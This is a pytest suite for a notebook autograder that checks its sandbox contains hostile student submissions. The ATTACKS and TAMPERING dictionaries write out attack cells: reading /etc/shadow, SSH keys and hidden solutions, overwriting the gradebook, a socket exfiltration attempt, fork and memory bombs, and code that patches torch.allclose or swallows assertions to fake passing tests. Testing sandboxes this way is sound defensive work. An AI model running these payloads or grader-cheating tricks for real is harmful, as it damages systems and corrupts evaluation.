"""Hostile and mangled submissions cannot escape, stall, cheat or corrupt the grading.

One class is autograded once, through the kit's grading of plain ``nbgrader autograde`` with the
kit's config, in a temporary course:

* ``honest``: the correct solution (23 points);
* ``ATTACKS``: the correct solution plus one attack cell after the setup cell (escaping the
  sandbox, stalling, flooding): every attack must fail inside the sandbox and the notebook go on,
  so each keeps full marks; ``dies`` (``os._exit``) loses every cell after it and nothing else;
* ``TAMPERING``: the *blank* release notebook plus code that would make failing tests pass
  (rewriting the cells to come, swallowing errors, patching the checks, ``torch.allclose``,
  builtins or ``AssertionError``, a fake hidden-check module, lying objects, tensor subclasses):
  refused by the tamper screen, 0 points, with a message naming what was found;
* ``MANGLED``: the correct solution damaged the ways students damage notebooks (duplicated and
  split cells, a renamed grade id, an answer cell turned into Markdown, a renamed file, invalid
  JSON): repaired at intake and graded in full, or 0 with a report for what cannot be read.

The gradebook must be intact, no secret may appear in any output, no connection may reach the
grader's machine, and the whole class must be graded in bounded time.
"""

from __future__ import annotations

import copy
import os
import socket
import threading
import time

import nbformat
import pytest

from autograder.course import report
from autograder.course.grading import grade_class
from autograder.course.nbgrader_cli import make_course
from autograder.grader.sandbox import bubblewrap_works
from autograder.paths import REPO_ROOT

NOTEBOOK = "bonus_prediction_nn.ipynb"
CORRECT = REPO_ROOT / "sample_class" / "submitted" / "correct" / "bonus_predictor" / NOTEBOOK
FULL = 23.0

ATTACKS = {
    "reads-secrets": """
import glob
for pattern in ["{course}/source/*/*.ipynb", "{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb",
                "{course}/autograded/honest/*/*.ipynb", "{repo}/source/*/*.ipynb", "{repo}/solutions/*/*.ipynb",
                "/root/.ssh/*", "/etc/shadow"]:
    for path in glob.glob(pattern):
        try:
            print("STOLEN", path, open(path, "rb").read(40))
        except OSError as error:
            print("refused", path, error)
""",
    "writes-gradebook": """
for target in ["{course}/gradebook.db", "{course}/nbgrader_config.py", "{repo}/autograder/checks/bonus_predictor.py",
               "{course}/autograded/honest/bonus_predictor/{notebook}"]:
    try:
        with open(target, "r+b") as handle:
            handle.write(b"PWNED" * 100)
        print("WROTE", target)
    except OSError as error:
        print("refused", target, error)
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfiltrated")
    print("CONNECTED")
except OSError as error:
    print("no network:", error)
""",
    "fork-bomb": """
import os, time
children = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork refused after", children, "children:", error)
""",
    "memory-bomb": """
def hog():
    blocks = []
    while True:
        blocks.append(bytearray(256 * 2**20))
try:
    hog()
except MemoryError:
    print("memory refused")
""",
    "output-flood": """
print("x" * (100 * 2**20))
""",
    "endless-loop": """
while True:
    pass
""",
    "reads-hidden": """
for path in ["{repo}/autograder/hidden/bonus_predictor.py", "{repo}/autograder/hidden/__init__.py"]:
    try:
        print("STOLEN", open(path).read()[:200])
    except OSError as error:
        print("refused", path, error)
""",
    "dies": """
import os
os._exit(3)
""",
}
SCORES = {name: FULL for name in ATTACKS} | {"dies": 0.0}

TAMPERING = {
    "rewrites-cells": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
    "swallows-errors": """
import sys
sys.excepthook = lambda *args: None
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
AssertionError = Warning
""",
    "patches-checks": """
import torch, builtins
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
builtins.isinstance = lambda *args: True
for name in ["load_bonus_data", "to_tensors", "standardize", "train_model", "fits_least_squares"]:
    setattr(check, name, lambda *args, **kwargs: None)
""",
    "fake-hidden-module": """
import sys, types
sys.modules["autograder.hidden.bonus_predictor"] = types.SimpleNamespace(
    **dict.fromkeys(["load_bonus_data", "to_tensors", "standardize", "train_model"], lambda *a, **k: None))
""",
    "lying-objects": """
import torch
class Anything(torch.Tensor):
    def __eq__(self, other):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
""",
}


def _cell(nb, name):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def _duplicate(name):
    def edit(nb):
        i = _cell(nb, name)
        nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
    return edit


def _split(nb):  # JupyterLab's Split Cell: both halves keep the cell's metadata
    i = _cell(nb, "train_model")
    second = copy.deepcopy(nb.cells[i])
    second.source, second.id = "LEARNING_RATE = 0.1  # a constant of my own", "split-half"
    nb.cells.insert(i + 1, second)


def _rename_id(nb):
    nb.cells[_cell(nb, "test_to_tensors")].metadata.nbgrader["grade_id"] = "my_own_test"


def _to_markdown(nb):
    i = _cell(nb, "to_tensors")
    nb.cells[i] = nbformat.v4.new_markdown_cell(nb.cells[i].source, metadata=nb.cells[i].metadata)


MANGLED = {  # student -> (edit of the notebook, file name, expected score)
    "duplicated-answer": (_duplicate("to_tensors"), NOTEBOOK, FULL),
    "duplicated-test": (_duplicate("test_standardize"), NOTEBOOK, FULL),
    "split-cell": (_split, NOTEBOOK, FULL),
    "renamed-grade-id": (_rename_id, NOTEBOOK, FULL),
    "answer-as-markdown": (_to_markdown, NOTEBOOK, FULL),
    "renamed-notebook": (None, "bonus_prediction_nn (1).ipynb", FULL),
    "invalid-json": ("truncate", NOTEBOOK, 0.0),
}


class Listener:
    """A TCP server on the grader's loopback that records every connection it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, addr = self.sock.accept()
                self.connections.append(addr)
                conn.close()
            except OSError:
                pass


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    if not bubblewrap_works():
        pytest.skip("bubblewrap cannot create namespaces here: student code would not be isolated")
    listener = Listener()
    course = make_course(tmp_path_factory.mktemp("hostile") / "course")
    submitted = course.parent / "incoming"
    correct = nbformat.read(str(CORRECT), as_version=4)
    blank = nbformat.read(str(REPO_ROOT / "release" / "bonus_predictor" / NOTEBOOK), as_version=4)

    def write(student, nb, name=NOTEBOOK):
        path = submitted / student / "bonus_predictor" / name
        path.parent.mkdir(parents=True)
        nbformat.write(nb, str(path))
        return path

    for student, code in {"honest": None, **ATTACKS, **TAMPERING}.items():
        nb = copy.deepcopy(blank if student in TAMPERING else correct)
        if code:
            text = code.format(course=course, repo=REPO_ROOT, port=listener.port, notebook=NOTEBOOK)
            nb.cells.insert(2, nbformat.v4.new_code_cell(text.strip()))
        write(student, nb)
    for student, (edit, name, _) in MANGLED.items():
        nb = copy.deepcopy(correct)
        if callable(edit):
            edit(nb)
        path = write(student, nb, name)
        if edit == "truncate":
            path.write_text(path.read_text()[:5000])
    start = time.monotonic()
    os.environ["KIT_CELL_TIMEOUT"], saved = "30", os.environ.get("KIT_CELL_TIMEOUT")
    try:
        run = grade_class(course, submitted, ["bonus_predictor"])
    finally:
        os.environ.pop("KIT_CELL_TIMEOUT") if saved is None else os.environ.__setitem__("KIT_CELL_TIMEOUT", saved)
    listener.stop = True
    return course, run, time.monotonic() - start, listener, correct


def scores(course) -> dict[str, float]:
    return {r.student: r.score for r in report.read_results(f"sqlite:///{course / 'gradebook.db'}", ["bonus_predictor"])}


def outputs(course, student) -> str:
    nb = nbformat.read(str(course / "autograded" / student / "bonus_predictor" / NOTEBOOK), as_version=4)
    return "\n".join(o.get("text", "") + o.get("evalue", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)


@pytest.mark.slow
def test_attackers_keep_their_marks_and_a_dead_kernel_loses_only_what_follows(hostile_class):
    course, *_ = hostile_class
    found = scores(course)
    assert {s: found.get(s) for s in ["honest", *ATTACKS]} == {"honest": FULL, **SCORES}
    assert "the kernel died while running cell 3" in outputs(course, "dies")


@pytest.mark.slow
def test_tampering_is_refused_with_a_reason(hostile_class):
    course, *_ = hostile_class
    found = scores(course)
    assert {s: found.get(s) for s in TAMPERING} == dict.fromkeys(TAMPERING, 0.0)
    for student in TAMPERING:
        text = outputs(course, student)
        assert "Automatic grading was refused for this notebook" in text, (student, text[-2000:])
    assert "input_transformers_cleanup" in outputs(course, "rewrites-cells")
    assert "replaces torch.allclose" in outputs(course, "patches-checks")


@pytest.mark.slow
def test_mangled_notebooks_are_repaired_and_reported(hostile_class):
    course, *_ = hostile_class
    found = scores(course)
    assert {s: found.get(s) for s in MANGLED} == {s: want for s, (_, _, want) in MANGLED.items()}
    reports = {p.parent.name: p.read_text() for p in (course / "intake").glob("*/bonus_predictor.txt")}
    assert set(reports) == set(MANGLED) | set(TAMPERING), sorted(reports)
    assert all("tamper screen:" in reports[s] for s in TAMPERING)
    assert "not valid JSON" in reports["invalid-json"] and "NOT GRADABLE" in reports["invalid-json"]
    assert "renamed to 'bonus_prediction_nn.ipynb'" in reports["renamed-notebook"]
    assert "duplicated" in reports["duplicated-answer"] and "unknown" in reports["renamed-grade-id"]
    assert "changed back" in reports["answer-as-markdown"]
    assert (course / "intake" / "originals" / "invalid-json" / "bonus_predictor" / NOTEBOOK).exists()
    stand_in = nbformat.read(str(course / "autograded" / "invalid-json" / "bonus_predictor" / NOTEBOOK), as_version=4)
    assert "could not be graded" in stand_in.cells[0].source


@pytest.mark.slow
def test_no_secret_is_read_and_nothing_is_written(hostile_class):
    course, *_ = hostile_class
    for student in ("reads-secrets", "reads-hidden"):
        stolen = outputs(course, student)
        assert "STOLEN" not in stolen and "refused" in stolen, stolen
    wrote = outputs(course, "writes-gradebook")
    assert "WROTE" not in wrote and "refused" in wrote, wrote
    assert (course / "gradebook.db").read_bytes()[:15] == b"SQLite format 3"
    assert b"PWNED" not in (REPO_ROOT / "autograder" / "checks" / "bonus_predictor.py").read_bytes()


@pytest.mark.slow
def test_no_connection_leaves_the_sandbox(hostile_class):
    _, _, _, listener, _ = hostile_class
    assert listener.connections == []


@pytest.mark.slow
def test_resource_attacks_are_stopped_and_grading_goes_on(hostile_class):
    course, run, seconds, *_ = hostile_class
    assert "fork refused" in outputs(course, "fork-bomb")
    assert "memory refused" in outputs(course, "memory-bomb")
    flood = course / "autograded" / "output-flood" / "bonus_predictor" / NOTEBOOK
    assert flood.stat().st_size < 10 * 2**20 and "output truncated" in outputs(course, "output-flood")
    assert seconds < 900, f"the hostile class took {seconds:.0f} s"
